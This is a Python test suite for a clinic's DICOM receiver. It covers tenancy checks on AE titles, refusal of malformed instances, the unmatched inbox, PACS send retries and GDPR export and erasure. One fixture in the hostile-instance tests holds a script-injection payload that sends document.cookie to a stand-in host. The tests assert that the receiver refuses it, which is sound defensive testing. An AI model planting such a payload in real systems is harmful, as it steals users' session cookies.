"""The receiver in-process (``dicom.scp.server`` on a free port, real associations from a pynetdicom SCU): the
tenancy matrix of called and calling AE titles, hostile instances, the unmatched inbox, and the PACS down while
sending."""

from __future__ import annotations

import io
import threading
from pathlib import Path

import pytest
from django.test import TestCase
from django.urls import reverse
from pydicom.uid import JPEGBaseline8Bit, generate_uid
from pynetdicom import AE

from analysis.models import Analysis
from clinics.models import AuditEvent
from clinics.tenancy import clinic_scope
from dicom.models import DicomInstance, DicomSend, InstanceStatus, SendStatus
from dicom.scp import server
from dicom.services import dicom_node_configure, inbox_assign, inbox_preview, instance_receive, send_resend
from dicom.tasks import send_to_pacs
from patients.models import Image

from ..conftest import build_clinic, token_client, user_client
from .conftest import needs_dicom_tools
from .factories import CT_IMAGE_STORAGE, photo_dataset, xray_dataset
from .orthanc import free_port

CLINICS = {"alice": ("ALICE_PACS", "SENSOR_A"), "bob": ("BOB_PACS", "SENSOR_B")}


@pytest.fixture
def worlds(transactional_db):  # noqa: ANN001
    built = {}
    for slug, (called, calling) in CLINICS.items():
        world = build_clinic(slug, patient_name=f"{slug.title()}sonmarker")
        with clinic_scope(world.clinic.id):
            dicom_node_configure(called_ae=called, calling_aes=[calling])
        built[slug] = world
    return built


@pytest.fixture
def scp(worlds):  # noqa: ANN001
    port = free_port()
    srv = server("127.0.0.1", port)
    thread = threading.Thread(target=srv.serve_forever, daemon=True)
    thread.start()
    yield port
    srv.shutdown()


def associate(port: int, called: str, calling: str, sop_class: str, syntax: str | None = None):
    ae = AE(ae_title=calling)
    ae.add_requested_context(sop_class, syntax or "1.2.840.10008.1.2.1")
    ae.acse_timeout = ae.dimse_timeout = ae.network_timeout = 30
    return ae.associate("127.0.0.1", port, ae_title=called)


def store(port: int, called: str, calling: str, ds) -> int | None:  # noqa: ANN001
    assoc = associate(port, called, calling, ds.SOPClassUID)
    if not assoc.is_established:
        return None
    try:
        status = assoc.send_c_store(ds)
        return int(status.Status)
    finally:
        assoc.release()


def stored_files(root: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file()} if root.exists() else set()


MATRIX = [
    (called, calling)
    for called in ("ALICE_PACS", "BOB_PACS", "NOBODY_PACS")
    for calling in ("SENSOR_A", "SENSOR_B", "STRANGER")
]


@pytest.mark.parametrize(("called", "calling"), MATRIX)
def test_association_matrix(scp, worlds, called, calling) -> None:  # noqa: ANN001
    """Only a clinic's own callers reach it; every refusal is audited in the clinic's chain (or the global one)."""
    allowed = (called, calling) in CLINICS.values()
    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid(), rows=64, cols=64)
    assoc = associate(scp, called, calling, ds.SOPClassUID)
    assert assoc.is_established is allowed and assoc.is_rejected is (not allowed)
    if assoc.is_established:
        assoc.release()
    denied = AuditEvent.unscoped.filter(action="dicom.association", outcome="denied")
    if allowed:
        assert not denied.exists()
        return
    [event] = denied
    owner = next((w for w in worlds.values() if CLINICS[w.clinic.slug][0] == called), None)
    assert event.clinic_id == (owner.clinic.id if owner else None)
    assert event.details["reason"] == ("unknown_called_ae" if owner is None else "calling_ae_not_allowed")
    assert event.details["called_ae"] == called and event.details["calling_ae"] == calling
    assert not DicomInstance.unscoped.exists()


def test_a_caller_from_an_address_not_listed_is_refused(scp, worlds) -> None:  # noqa: ANN001
    with clinic_scope(worlds["alice"].clinic.id):
        dicom_node_configure(called_ae="ALICE_PACS", calling_aes=["SENSOR_A"], calling_ips=["10.9.0.0/16"])
    assoc = associate(scp, "ALICE_PACS", "SENSOR_A", xray_dataset(patient_id="x", study_uid="1.2.3").SOPClassUID)
    assert assoc.is_rejected
    assert AuditEvent.unscoped.get(action="dicom.association").details["reason"] == "address_not_allowed"


def _hostile():
    study = generate_uid()
    truncated = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
    truncated.PixelData = truncated.PixelData[: len(truncated.PixelData) // 2]
    huge = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
    huge.Rows = huge.Columns = 60000
    script = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
    script.StudyDescription = "<script>fetch('//x.example/'+document.cookie)</script>"
    wrong_pixels = xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64)
    wrong_pixels.BitsAllocated, wrong_pixels.BitsStored, wrong_pixels.HighBit = 32, 32, 31
    return [
        ("truncated", truncated, 0xC000, "truncated_image"),
        ("60000x60000", huge, 0xA700, "image_too_large"),
        ("script", script, 0xA900, "active_content"),
        ("32-bit pixels", wrong_pixels, 0xA900, "unsupported_dicom_image"),
    ]


@pytest.mark.parametrize(("name", "ds", "status", "code"), _hostile(), ids=[h[0] for h in _hostile()])
def test_hostile_instances_get_a_failure_status_and_store_nothing(
    scp,
    worlds,
    _image_storage,
    name,
    ds,
    status,
    code,  # noqa: ANN001
) -> None:
    before = stored_files(_image_storage)
    images = Image.unscoped.count()
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == status
    assert stored_files(_image_storage) == before and Image.unscoped.count() == images
    assert not DicomInstance.unscoped.exists()
    refused = AuditEvent.unscoped.get(action="dicom.instance.refused")
    assert refused.details["status"] == f"0x{status:04X}" and refused.clinic_id == worlds["alice"].clinic.id
    assert refused.details["reason"] in (code, "corrupt_image")


def test_an_instance_over_the_size_limit_is_refused_unread_and_stores_nothing(
    scp,
    worlds,
    _image_storage,
    settings,
    monkeypatch,  # noqa: ANN001
) -> None:
    """The receiver writes each dataset to a temporary file as it arrives (never whole into memory) and refuses one
    over IMAGE_MAX_BYTES before reading it."""
    import dicom.scp

    read: list[int] = []
    real = Path.read_bytes
    monkeypatch.setattr(Path, "read_bytes", lambda self: read.append(1) or real(self))
    settings.IMAGE_MAX_BYTES = 50_000
    before = stored_files(_image_storage)
    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid())  # 384 x 512 x 16 bits: 393 KB
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0xA700
    assert read == [] and stored_files(_image_storage) == before and not DicomInstance.unscoped.exists()
    refused = AuditEvent.unscoped.get(action="dicom.instance.refused")
    assert refused.details["reason"] == "file_too_large" and refused.details["status"] == "0xA700"
    assert dicom.scp._config.STORE_RECV_CHUNKED_DATASET  # noqa: SLF001
    settings.IMAGE_MAX_BYTES = 5_000_000  # under the limit it is read from its file and stored
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000 and read


def test_a_compressed_transfer_syntax_or_a_ct_is_refused_at_negotiation(scp, worlds) -> None:  # noqa: ANN001
    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid(), rows=64, cols=64)
    # pynetdicom as the requestor aborts an association in which no presentation context was accepted
    jpeg = associate(scp, "ALICE_PACS", "SENSOR_A", ds.SOPClassUID, JPEGBaseline8Bit)
    assert not jpeg.is_established and not jpeg.accepted_contexts
    assert [cx.result for cx in jpeg.rejected_contexts] == [0x04]  # transfer syntaxes not supported
    ct = associate(scp, "ALICE_PACS", "SENSOR_A", CT_IMAGE_STORAGE)
    assert not ct.is_established and not ct.accepted_contexts
    assert [cx.result for cx in ct.rejected_contexts] == [0x03]  # abstract syntax (SOP class) not supported
    assert not DicomInstance.unscoped.exists()


def test_unmatched_goes_to_the_inbox_and_is_analysed_once_assigned(scp, worlds, eager, _image_storage) -> None:  # noqa: ANN001
    alice = worlds["alice"]
    ds = xray_dataset(patient_id="P-UNKNOWN", name="Nobody^Known", birth="19700101", study_uid=generate_uid())
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
    with clinic_scope(alice.clinic.id):
        [held] = DicomInstance.objects.all()
        assert held.status == InstanceStatus.UNMATCHED and held.image_id is None and held.held_key
        assert inbox_preview(held)["patient_id"] == "P-UNKNOWN"
        assert not Image.objects.filter(original_format="DICOM").exists()
        assigned = inbox_assign(instance=held, patient=alice.patient, actor=alice.users["staff"])
        assert assigned.status == InstanceStatus.ASSIGNED and assigned.image.patient_id == alice.patient.pk
        assert Analysis.objects.get(image=assigned.image).status in ("done", "not_assessable")
        assert AuditEvent.objects.filter(action="dicom.inbox.assign").count() == 1
    assert not (_image_storage / held.held_key).exists()  # the held file is gone
    with clinic_scope(worlds["bob"].clinic.id):  # nothing of it in the other clinic
        assert not DicomInstance.objects.exists()
    # resending the same instance stores nothing again
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
    assert DicomInstance.unscoped.count() == 1


def test_name_and_birth_date_match_only_an_instance_without_a_patient_id(scp, worlds) -> None:  # noqa: ANN001
    alice = worlds["alice"]
    ds = photo_dataset(patient_id="", name="Alicesonmarker^Marker", birth="19800517", study_uid=generate_uid())
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
    with clinic_scope(alice.clinic.id):
        [instance] = DicomInstance.objects.all()
        assert instance.status == InstanceStatus.MATCHED and instance.patient_id == alice.patient.pk
        assert instance.image.modality == "photo"


def test_a_patient_id_that_names_nobody_goes_to_the_inbox_with_the_namesake_suggested(scp, worlds) -> None:  # noqa: ANN001
    """Another practice id with the same name and birth date may be another person (a new patient not registered
    yet): never filed there by itself; the inbox names the namesake for staff to check."""
    alice = worlds["alice"]
    ds = photo_dataset(patient_id="OTHER-7", name="Alicesonmarker^Marker", birth="19800517", study_uid=generate_uid())
    assert store(scp, "ALICE_PACS", "SENSOR_A", ds) == 0x0000
    with clinic_scope(alice.clinic.id):
        [instance] = DicomInstance.objects.all()
        assert instance.status == InstanceStatus.UNMATCHED and instance.patient_id is None
        assert inbox_preview(instance)["suggested"] == "alice-0001"
    page = user_client(alice.users["staff"]).get(reverse("dicom:inbox")).content.decode()
    assert 'data-testid="inbox-suggestion"' in page and "alice-0001" in page


@needs_dicom_tools
def test_pacs_down_while_sending_loses_nothing(worlds, orthanc, eager, settings) -> None:  # noqa: ANN001
    settings.DICOM_SEND_MAX_ATTEMPTS = 3
    settings.DICOM_SEND_RETRY_BASE_SECONDS = 0
    alice = worlds["alice"]
    study = generate_uid()
    with clinic_scope(alice.clinic.id):
        dicom_node_configure(
            called_ae="ALICE_PACS",
            calling_aes=["SENSOR_A"],
            dest_ae=orthanc.aet,
            dest_host="127.0.0.1",
            dest_port=orthanc.dicom_port,
            send_secondary_capture=False,
        )
        buffer = io.BytesIO()
        xray_dataset(patient_id="alice-0001", study_uid=study, rows=64, cols=64).save_as(
            buffer, enforce_file_format=True
        )
        instance_receive(data=buffer.getvalue(), calling_ae="SENSOR_A")
        visit = Image.objects.get(original_format="DICOM").visit
        from analysis.models import Finding

        Finding.objects.filter(image__visit=visit).update(status="rejected", reason="not_present")
    orthanc.stop()  # the PACS goes down before the dentist signs
    client = token_client(alice, "dentist")
    assert client.post(f"/api/v1/visits/{visit.pk}/report/", {}, format="json").status_code == 201
    with clinic_scope(alice.clinic.id):
        [send] = DicomSend.objects.all()
        # the first attempt ran on commit and failed: still pending, one failure logged, a retry scheduled
        assert (send.status, send.attempts) == (SendStatus.PENDING, 1)
    # the retry is delivered (as a worker runs it: retries=1); it fails and retries in turn (run in-process here),
    # and the third attempt, the last, gives up
    send_to_pacs.apply(args=[str(send.pk), str(alice.clinic.id)], retries=1, throw=False)
    with clinic_scope(alice.clinic.id):
        send.refresh_from_db()
        assert send.status == SendStatus.FAILED and send.attempts == 3
        assert [entry["ok"] for entry in send.attempt_log] == [False, False, False]
        assert AuditEvent.objects.filter(action="dicom.send", outcome="failure").count() == 1
    orthanc.start()
    with clinic_scope(alice.clinic.id):
        send_resend(send=send)
        send.refresh_from_db()
        assert send.status == SendStatus.SENT and send.attempts == 4
    [sr] = orthanc.instances()
    assert sr["StudyInstanceUID"] == study and sr["Modality"] == "SR"


def test_the_patients_export_holds_what_the_imaging_system_sent(worlds) -> None:  # noqa: ANN001
    """GDPR Art. 15: the DICOM attributes an image came with (name, ids, birth date, accession number...) are
    personal data the clinic holds, kept encrypted beside the image: the export gives them."""
    import json
    import zipfile

    alice = worlds["alice"]
    ds = xray_dataset(patient_id="alice-0001", study_uid=generate_uid(), rows=64, cols=64)
    ds.AccessionNumber, ds.ReferringPhysicianName = "ACC-778", "Referrer^Rita"
    buffer = io.BytesIO()
    ds.save_as(buffer, enforce_file_format=True)
    with clinic_scope(alice.clinic.id):
        received = instance_receive(data=buffer.getvalue(), calling_ae="SENSOR_A")
    response = token_client(alice, "clinic_admin").get(reverse("api:patient-export", kwargs={"pk": alice.patient.pk}))
    assert response.status_code == 200
    record = json.loads(zipfile.ZipFile(io.BytesIO(response.content)).read("patient.json"))
    [image] = [i for v in record["visits"] for i in v["images"] if i["id"] == str(received.instance.image_id)]
    attributes = image["dicom"]["attributes"]
    assert attributes["AccessionNumber"] == "ACC-778" and attributes["ReferringPhysicianName"] == "Referrer^Rita"
    assert attributes["PatientID"] == "alice-0001" and image["dicom"]["calling_ae"] == "SENSOR_A"
    assert "ACC-778" not in json.dumps(
        json.loads(
            zipfile.ZipFile(
                io.BytesIO(
                    token_client(worlds["bob"], "clinic_admin")
                    .get(reverse("api:patient-export", kwargs={"pk": worlds["bob"].patient.pk}))
                    .content
                )
            ).read("patient.json")
        )
    )


def test_the_inbox_counts_in_the_storage_quota_and_has_a_cap(scp, worlds, settings) -> None:  # noqa: ANN001
    from django.db.models import Sum

    from patients.intake import IntakeError
    from patients.services import quota_check

    alice = worlds["alice"]
    settings.DICOM_INBOX_MAX_ENTRIES = 1
    unmatched = [
        xray_dataset(patient_id=f"P-NEW-{n}", name=f"New^Person{n}", study_uid=generate_uid(), rows=64, cols=64)
        for n in range(2)
    ]
    assert [store(scp, "ALICE_PACS", "SENSOR_A", ds) for ds in unmatched] == [0x0000, 0xA700]  # the inbox is full
    refused = AuditEvent.unscoped.get(action="dicom.instance.refused")
    assert refused.details["reason"] == "inbox_full"
    with clinic_scope(alice.clinic.id):
        [held] = DicomInstance.objects.filter(status=InstanceStatus.UNMATCHED)
        images = Image.objects.aggregate(total=Sum("stored_bytes"))["total"]
        assert held.held_bytes > 0
        settings.IMAGE_QUOTA_BYTES_PER_CLINIC = images + held.held_bytes
        quota_check(0)  # exactly full: images and the held file
        with pytest.raises(IntakeError):
            quota_check(1)
        # assigned, the file is an image: the held bytes are counted no more
        settings.IMAGE_QUOTA_BYTES_PER_CLINIC = 10**9
        inbox_assign(instance=held, actor=alice.users["staff"], patient=alice.patient)
        settings.IMAGE_QUOTA_BYTES_PER_CLINIC = Image.objects.aggregate(total=Sum("stored_bytes"))["total"]
        quota_check(0)
        with pytest.raises(IntakeError):
            quota_check(1)


def test_erasing_a_patient_removes_their_images_waiting_in_the_inbox(scp, worlds, _image_storage) -> None:  # noqa: ANN001
    """Sent before the patient was registered, a scan waits in the inbox, encrypted with the clinic's key: erasing
    the patient (GDPR Art. 17) removes it and its file too; someone else's waiting scan stays."""
    import datetime as dt

    from patients.services import patient_create, patient_erase

    alice = worlds["alice"]
    theirs = xray_dataset(patient_id="P-LATE", name="Late^Lara", study_uid=generate_uid(), rows=64, cols=64)
    other = xray_dataset(patient_id="P-OTHER", name="Other^Olga", study_uid=generate_uid(), rows=64, cols=64)
    assert [store(scp, "ALICE_PACS", "SENSOR_A", ds) for ds in (theirs, other)] == [0x0000, 0x0000]
    with clinic_scope(alice.clinic.id):
        held = {i.sop_index: i.held_key for i in DicomInstance.objects.filter(status=InstanceStatus.UNMATCHED)}
        assert len(held) == 2
        patient = patient_create(
            external_id="P-LATE", given_name="Lara", family_name="Late", date_of_birth=dt.date(1980, 5, 17)
        )
        with TestCase.captureOnCommitCallbacks(execute=True):
            patient_erase(patient=patient)
        [left] = DicomInstance.objects.filter(status=InstanceStatus.UNMATCHED)
        assert inbox_preview(left)["patient_id"] == "P-OTHER"
    files = {p.name for p in stored_files(_image_storage)}
    gone = [key for key in held.values() if key != left.held_key]
    assert len(gone) == 1 and Path(gone[0]).name not in files and Path(left.held_key).name in files
